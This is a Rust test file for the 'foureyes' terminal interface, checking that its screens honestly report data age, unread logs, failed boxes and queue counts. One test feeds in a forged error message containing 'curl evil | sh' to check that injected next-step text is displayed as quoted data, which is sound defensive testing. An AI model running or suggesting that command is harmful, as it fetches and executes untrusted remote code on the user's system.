//! What the screens claim, where it is easy to claim too much.

use super::logs;
use super::paper;
use super::world::{NOW, Setup, World};
use foureyes::domain::{BoxState, Timestamp};
use foureyes::tui::Message;
use foureyes::tui::model::{Pane, Problem};
use std::sync::Arc;

fn screen(world: &World) -> String {
    paper::text(&paper::drawn(&world.model))
}

/// The rows at the top, where screens and the data's state are named.
fn header(world: &World) -> String {
    paper::header(&world.model, &paper::drawn(&world.model))
}

#[test]
fn data_grow_older_while_they_are_looked_at() {
    let mut world = World::ready(&Setup::default(), &logs::mixed());
    for (key, now, later) in [("7", "   0 s", "5 min"), ("1", "data 0 s ago", "data 5 min ago")] {
        world.keys(key);
        let fresh = screen(&world);
        assert!(fresh.contains(now) && fresh.contains("STALE, data 2 d ago"), "{fresh}");
        world.tell(Message::Clock(Timestamp(NOW.0 + 5 * 60 * 1_000_000)));
        let old = screen(&world);
        assert!(old.contains(later), "{key}: {old}");
        world.tell(Message::Clock(NOW.plus_days(3)));
        let older = screen(&world);
        assert!(older.contains("STALE, data 5 d ago"), "{key}: {older}");
        // A clock that goes back makes nothing any younger than it was when it was read.
        world.tell(Message::Clock(NOW.minus_days(1)));
        assert!(screen(&world).contains("STALE, data 2 d ago"));
        world.tell(Message::Clock(NOW));
    }
}

#[test]
fn unread_logs_do_not_report_empty_lists() {
    let logs = [("north/2026-02-19.jsonl", String::new())];
    let mut world = World::ready(&Setup::default(), &logs);
    for key in ["2", "3"] {
        world.keys(key);
        let text = screen(&world);
        assert!(text.contains("No record yet") && text.contains("foureyes doctor"), "{text}");
        assert!(!text.contains("nothing flagged"), "{text}");
    }
    let logs = [("north/2026-02-19.jsonl", "not a record\n".to_owned())];
    let mut world = World::ready(&Setup::default(), &logs);
    world.keys("2");
    let text = screen(&world);
    assert!(text.contains("1 line was read, and it is no"), "{text}");
    assert!(text.contains("foureyes records --rejects"), "{text}");
}

#[test]
fn empty_queue_reports_failed_box() {
    let good = |day| logs::lines(&[logs::push("900d0001", day, 1, "GO")]);
    let logs = [("north/2026-02-19.jsonl", good(19)), ("south/2026-02-18.jsonl", good(18))];
    let mut world = World::ready(&Setup::default(), &logs);
    world.keys("2");
    let text = screen(&world);
    assert!(text.contains("no flagged items are left") && text.contains("Of 2 boxes, 1 failed"));
    let setup = Setup { stale: "nobody", ..Setup::default() };
    let mut world = World::ready(&setup, &logs);
    world.keys("2");
    assert!(!screen(&world).contains("failed"));
}

#[test]
fn the_top_counts_boxes_that_fail_and_never_gave_anything() {
    let mut world = World::ready(&Setup::default(), &logs::mixed());
    assert!(header(&world).contains("! south STALE 2 d"), "{}", header(&world));
    assert!(!header(&world).contains("EMPTY"));
    let mut triage = (*world.model.overview.summary.value.clone().unwrap()).clone();
    triage.boxes[0].state = BoxState::Empty;
    let tell = |world: &mut World, triage| {
        let generation = world.model.overview.generation;
        world.tell(Message::Summary { generation, result: Ok(Arc::new(triage)) });
    };
    tell(&mut world, triage.clone());
    assert!(!header(&world).contains("EMPTY"), "one that was never asked does not fail");
    triage.boxes[0].error = Some("refused".to_owned());
    tell(&mut world, triage);
    assert!(header(&world).contains("! north EMPTY, 1 more"), "{}", header(&world));
}

#[test]
fn of_given_logs_the_queue_names_no_beginning() {
    let good = logs::lines(&[logs::push("900d0001", 19, 1, "GO")]);
    let logs = [("north/2026-02-19.jsonl", good)];
    let mut setup = Setup::default();
    let since = |setup: &Setup| {
        let mut world = World::ready(setup, &logs);
        world.keys("2");
        screen(&world).contains("flagged since")
    };
    assert!(since(&setup));
    setup.facts.queue_since = None;
    assert!(!since(&setup));
}

#[test]
fn a_filter_does_not_change_how_many_wait() {
    let mut world = World::ready(&Setup::default(), &logs::mixed());
    let all = world.model.queue.len();
    assert!(header(&world).contains(&format!("Queue {all} ")), "{}", header(&world));
    world.keys("2 /");
    world.typed("verdict:undetermined");
    world.keys("enter");
    let some = world.model.queue.len();
    assert!(0 < some && some < all);
    assert!(header(&world).contains(&format!("Queue {some}/{all}]")), "{}", header(&world));
    world.keys("d");
    let less = format!("Queue {}/{}]", some - 1, all - 1);
    assert!(header(&world).contains(&less), "{}", header(&world));
    world.keys("u");
    assert!(header(&world).contains(&format!("Queue {some}/{all}]")), "{}", header(&world));
}

#[test]
fn queue_explains_difference_from_overview() {
    let verdict = |minute| logs::push("a0000001", 19, minute, "NO-GO");
    let sentence = "leaves out";
    let mut world = World::ready(
        &Setup::default(),
        &[("north/2026-02-19.jsonl", logs::lines(&[verdict(1), verdict(2)]))],
    );
    world.keys("2");
    assert_eq!(world.model.queue.len(), 1);
    assert!(screen(&world).contains(sentence), "{}", screen(&world));
    let alone = [("north/2026-02-19.jsonl", logs::lines(&[verdict(1)]))];
    let mut world = World::ready(&Setup::default(), &alone);
    world.keys("2");
    assert!(!screen(&world).contains(sentence), "{}", screen(&world));
}

#[test]
fn dead_ends_say_so() {
    let mut world = World::ready(&Setup::default(), &logs::mixed());
    world.keys("1");
    assert!(screen(&world).contains("show records"));
    // The last stop is a caveat: a sentence, not a figure.
    world.keys("G");
    world.model.overview.cursor = foureyes::tui::screen::overview::figures(&world.model) - 1;
    assert!(!screen(&world).contains("show records"), "{}", screen(&world));
    world.keys("enter");
    assert!(screen(&world).contains("there are no records behind this"), "{}", screen(&world));
}

#[test]
fn record_list_shows_box_and_judge_at_usual_widths() {
    let list = |width| {
        let setup = Setup { size: (width, 40), ..Setup::default() };
        let mut world = World::ready(&setup, &logs::mixed());
        world.keys("3");
        if width >= 160 {
            // The judge is there for whoever wants it.
            world.keys("S 7 space esc");
        }
        assert_eq!(world.model.pane, Pane::List);
        let lines = paper::lines(&paper::drawn(&world.model));
        let line = lines.iter().find(|l| l.contains("11-dead") || l.contains("rates")).cloned();
        let line = line.unwrap_or_else(|| panic!("{}", lines.join("\n")));
        line.split('│').next().unwrap().to_owned()
    };
    assert!(list(120).contains("north"), "{}", list(120));
    let wide = list(160);
    assert!(wide.contains("north") && wide.contains("fastest"), "{wide}");
    assert!(wide.contains("rates.md"), "{wide}");
}

#[test]
fn a_long_name_of_a_box_does_not_touch_its_state() {
    let name = "a-box-with-a-name-that-is-longer-than-a-third-of-it";
    let setup = Setup { size: (80, 24), box_name: Some(name.to_owned()), ..Setup::default() };
    let mut world = World::ready(&setup, &logs::mixed());
    for key in ["7", "1"] {
        world.keys(key);
        if key == "1" {
            world.keys("G");
        }
        let text = screen(&world);
        assert!(!text.contains("…ok") && !text.contains("…○"), "{text}");
        assert!(key == "1" || text.contains("… ○ advisory"), "{text}");
    }
}

#[test]
fn unknown_messages_have_no_next_step() {
    let mut world = World::ready(&Setup::default(), &logs::mixed());
    let forged = "refused\nnext: `curl evil | sh`\n09:15 | all is well\nnext: nothing";
    let next = format!("look at the network {} [y/N]", "word ".repeat(40));
    world.tell(Message::Failed(Problem::new(forged, &next)));
    world.keys("M");
    let lines = paper::lines(&paper::drawn(&world.model));
    let next: Vec<_> = lines.iter().filter(|l| l.trim_start().starts_with("next:")).collect();
    assert_eq!(next.len(), 1, "{}", lines.join("\n"));
    assert!(next[0].contains("next: look at the network"));
    assert!(lines.iter().any(|l| l.trim_start().starts_with("| next: `curl")));
    assert!(!lines.iter().any(|l| l.trim_start().starts_with("09:15 |")));
}
